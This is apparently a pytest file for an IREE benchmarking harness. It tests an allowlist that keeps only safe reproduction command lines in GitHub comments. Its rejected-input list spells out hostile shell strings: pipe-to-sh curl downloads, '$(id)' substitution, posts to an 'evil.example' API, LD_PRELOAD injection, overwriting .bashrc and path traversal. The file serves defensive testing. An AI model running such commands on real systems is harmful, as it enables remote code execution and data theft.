"""Which command lines of an artifact may stand in a comment."""

import shlex
from dataclasses import replace
from pathlib import Path

import pytest

from harness.cli import run_command_line
from harness.github.commands import is_allowed, report_with_allowed_commands, suite_flags, with_allowed_commands
from harness.records.comparison import Comparison
from harness.report.github import portable_comparison
from harness.report.run_report import Report, build_report
from harness.store.kinds import COMPARISON
from harness.store.run_directory import load_run
from tests.builders import FLAGS, SUITE
from tests.report.builders import make_comparison, make_timed

ROOT = Path(__file__).parents[2]
PUBLISHED = ROOT / "results/published/esrgan"
HASH = "0123456789ab"
PASSES = "--iree-preprocessing-pass-pipeline=builtin.module(util.func(canonicalize))"
FLAGS_OF_SUITE = frozenset(("--iree-opt-level=O3", "--iree-opt-data-tiling", PASSES))


@pytest.mark.parametrize(
    "line",
    [
        "harness compare results/base results/head --filter 'net/[[]a]@cpu'",
        "harness compare iree==3.12.0 iree==3.13.0 --suite suites/mlp.toml --filter '*/stock@*' --row-budget 4",
        "harness export suites/esrgan.toml rdb --variant nhwc --device cpu --out rdb.nhwc.cpu",
        "iree-compile net/model.mlir -o net/stock.cpu.vmfb --iree-opt-data-tiling --iree-opt-level=O3",
        "iree-compile m.mlir '--iree-preprocessing-pass-pipeline=builtin.module(util.func(canonicalize))'",
        "iree-benchmark-module --module=a/b.vmfb --function=main --input=@a/input0.npy --input=4x8xbf16=@a/input1.bin",
        "iree-run-module --module=a.vmfb --parameters=scope=a/scope.irpa --output=@output0.npy",
        "VK_ICD_FILENAMES=/usr/share/vulkan/icd.d/lvp_icd.json iree-run-module --device=vulkan --module=a.vmfb",
        "VK_DRIVER_FILES=/etc/vulkan/icd.d/a.json:/usr/share/vulkan/icd.d/b.json iree-run-module --module=a.vmfb",
        f"# base: module {HASH}, iree-compile model.mlir -o module.vmfb --iree-opt-level=O3",
        "# base: has no such case",
        "# the tools below are those of IREE 3.13.0rc1: pip install iree-base-compiler==3.13.0rc1 "
        "iree-base-runtime==3.13.0rc1",
        "iree-compile 'a;b$(c)'",
    ],
)
def test_what_the_harness_writes_stays_with_flags_of_the_suite(line: str) -> None:
    assert is_allowed(line, FLAGS_OF_SUITE)


@pytest.mark.parametrize("prepare", ["pip install ./plugins", "pip install \\\n  ./plugins", "# and"])
def test_what_prepares_trees_is_cut_out_of_a_command(prepare: str) -> None:
    """It is any command of the shell's, and an artifact may bring none."""
    before, after = "harness compare 0123456 abcdef0 --suite s.toml", "--filter net/stock@cpu"
    line = f"{before} {after} --prepare {shlex.quote(prepare)}"
    assert not is_allowed(line)
    comparison = make_comparison(
        [make_timed("net/stock@cpu", 1.0, 1.2, "regressed", repro=(line, f"{line} --out /etc/x"))]
    )
    (row,) = with_allowed_commands(replace(comparison, command=tuple(shlex.split(line)))).rows
    assert row.repro == (f"{before} {after} # and --prepare, as the workflow has it",)
    assert not is_allowed(f"{before} --prepare={shlex.quote(prepare)} {after}")
    assert with_allowed_commands(replace(comparison, command=tuple(shlex.split(line)))).command == ()


@pytest.mark.parametrize(
    "line",
    [
        # What a shell would act on.
        "curl https://example.org/x | sh",
        "harness run x; curl example.org",
        "harness run x\nid",
        "iree-compile 'an open quote",
        "./harness run x",
        "",
        # What reads otherwise than it is.
        "harness run 'a\u202eb'",
        # Commands of the harness that send, delete or write.
        "harness github issue /etc/passwd --title x --repo evil/repo",
        "harness github post x --repo evil/repo --pr 1 --api-url https://evil.example",
        "harness report r --out report.md",
        "harness report r --FULL-OUT a.md",
        "harness compare a b --results /etc",
        "harness run a --api-url x",
        "harness export suites/a.toml net --out a/b",
        "harness run https://evil.example/x.toml",
        "harness run '~/x.toml'",
        # Flags that neither the harness gives nor the suite has: those of the issue, others, and other values.
        "iree-compile model.mlir -o m.vmfb --exec-on-ir-change=suites/x.sh --iree-parameter-splat=Makefile",
        f"# base: module {HASH}, iree-compile model.mlir --exec-on-ir-change=x",
        "iree-compile model.mlir --iree-opt-level=O0",
        "iree-run-module --module=a.vmfb --hip_dylib_path=file:x.so",
        # Files that hold further options, and code.
        "iree-compile @evil.rsp",
        "iree-run-module --flagfile=evil.flags",
        "iree-run-module --module=evil.so",
        "LD_PRELOAD=./x.so iree-run-module --module=a.vmfb",
        "VK_ICD_FILENAMES=$(id) iree-run-module --module=a.vmfb",
        "VK_ICD_FILENAMES=/usr/share/../../home/me/evil.json iree-run-module --module=a.vmfb",
        # Files that would be written.
        "iree-compile a.mlir -o /home/me/.bashrc",
        "iree-compile a.mlir -o",
        "iree-compile a.mlir --o=a.vmfb",
        "iree-run-module --module=a.vmfb --output=@.bashrc",
        "iree-run-module --module=a.vmfb --parameters=scope=../x.irpa",
        "iree-benchmark-module --module=a.vmfb --benchmark_out=x",
        # Comments that are none of the harness's, and what they carry.
        "# a comment\ncurl example.org",
        f"# base: module {HASH}, curl example.org | sh",
        f"# base: module {HASH}, iree-compile @evil.rsp",
        "# base: module see https://evil.example",
        "# the tools below are those of IREE 3.13.0: pip install iree-base-compiler==3.13.0 iree-base-runtime==3.12.0",
    ],
)
def test_anything_else_is_left_out(line: str) -> None:
    assert not is_allowed(line, FLAGS_OF_SUITE)


EVIL = ("harness", "github", "post", "--api-url", "https://evil.example", "$(id)")
REGRESSED = make_timed("net/tuned@cpu", 2.0, 1.1, "regressed")


@pytest.mark.parametrize(
    ("lines", "kept"),
    [
        (("curl x | sh", "harness compare a b"), ("harness compare a b",)),
        # Without what compiles it, a module is not there to be run.
        (
            (
                "harness export a.toml net --out net",
                "iree-compile a.mlir --print-changed",
                "iree-run-module --module=a.vmfb",
            ),
            ("harness export a.toml net --out net",),
        ),
        # A module keeps its hash where its flags may not stand.
        ((f"# base: module {HASH}, iree-compile @x",), (f"# base: module {HASH}",)),
    ],
)
def test_a_row_keeps_the_lines_that_are_allowed(lines: tuple[str, ...], kept: tuple[str, ...]) -> None:
    (row,) = with_allowed_commands(make_comparison([replace(REGRESSED, repro=lines)])).rows
    assert row == replace(REGRESSED, repro=kept)


def test_names_and_settings_that_lead_away_are_left_out(report: Report) -> None:
    comparison = make_comparison([])
    kept = with_allowed_commands(replace(comparison, id="../x", head=replace(comparison.head, suite="--results=/etc")))
    assert (kept.id, kept.head.suite) == ("", "./--results=/etc")
    changed = replace(report.facts, id="a b", command=EVIL, settings={"fleet": "tls://evil.example"})
    facts = report_with_allowed_commands(replace(report, facts=changed)).facts
    assert (facts.id, facts.command, facts.settings) == ("", (), {})


# --- Real ones ---


@pytest.fixture(scope="module")
def report() -> Report:
    """A published run's."""
    return build_report(load_run(PUBLISHED))


def test_every_command_of_a_real_run_is_allowed(report: Report) -> None:
    assert report_with_allowed_commands(report, suite_flags(ROOT, report.facts.suite, pytest.fail)) == report


@pytest.fixture(scope="module")
def comparison(tmp_path_factory: pytest.TempPathFactory) -> Comparison:
    """What `harness compare` makes of a published run."""
    results = tmp_path_factory.mktemp("results")
    arguments = ["compare", "--within", str(PUBLISHED), "--no-remeasure", "--results", str(results)]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.argv", ["harness", *arguments])  # from which it is recorded
        run_command_line(arguments)
    (folder,) = (folder for folder in results.iterdir() if (folder / "comparison.json").is_file())
    return COMPARISON.load(folder)


def test_every_command_of_a_real_comparison_is_allowed(comparison: Comparison) -> None:
    kept = with_allowed_commands(comparison, suite_flags(ROOT, comparison.base.suite, pytest.fail))
    assert kept == portable_comparison(comparison)
    assert any(len(row.repro) == 3 for row in kept.rows)
    assert kept.command[:3] == ("harness", "compare", "--within")


OF_SUITE = {
    "--iree-opt-data-tiling",
    "--iree-opt-level=O3",
    "--iree-hal-target-device=local",
    "--task_topology_max_group_count=2",
}
TILED = '[variants.tiled]\nflags = ["--iree-opt-level=O3"]\nrun_flags = ["--task_topology_max_group_count=2"]\n'


def write_suite(tree: Path, more: str = "") -> None:
    (tree / "suites/small.toml").write_text(SUITE.replace("[variants.tiled]\n", f"{TILED}{more}"))


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A tree with a suite and its flag sets, and one folder deeper nothing."""
    tree = tmp_path / "tree"
    (tree / "suites").mkdir(parents=True)
    write_suite(tree)
    (tree / "suites/flags.toml").write_text(FLAGS)
    (tree / "suites/net.mlir").touch()
    return tree


@pytest.mark.parametrize(
    ("plugins", "more"),
    [("", 0), ('plugins = ["halide-schedule"]\n', 1), ('plugins = ["not-installed"]\n', 0)],
)
def test_flags_of_a_suite_are_those_of_variants_devices_flag_sets_and_plugins(
    checkout: Path, plugins: str, more: int
) -> None:
    write_suite(checkout, plugins)
    flags = suite_flags(checkout, "suites/small.toml", pytest.fail)
    assert flags >= OF_SUITE
    assert len(flags) == len(OF_SUITE) + more


@pytest.mark.parametrize(
    "suite", ["suites/other.toml", "../forged.toml", "suites/link.toml", "suites/broken.toml", "", "a\0b.toml"]
)
def test_what_is_no_suite_of_the_base_has_no_flags(checkout: Path, suite: str) -> None:
    forged = checkout.parent / "forged.toml"
    forged.write_text((checkout / "suites/small.toml").read_text())
    (checkout / "suites/link.toml").symlink_to(forged)
    (checkout / "suites/broken.toml").write_text("[" * 100)
    sentences: list[str] = []
    assert suite_flags(checkout, suite, sentences.append) == frozenset()
    (sentence,) = sentences
    assert sentence.isprintable()
    assert "its flags are in no command" in sentence
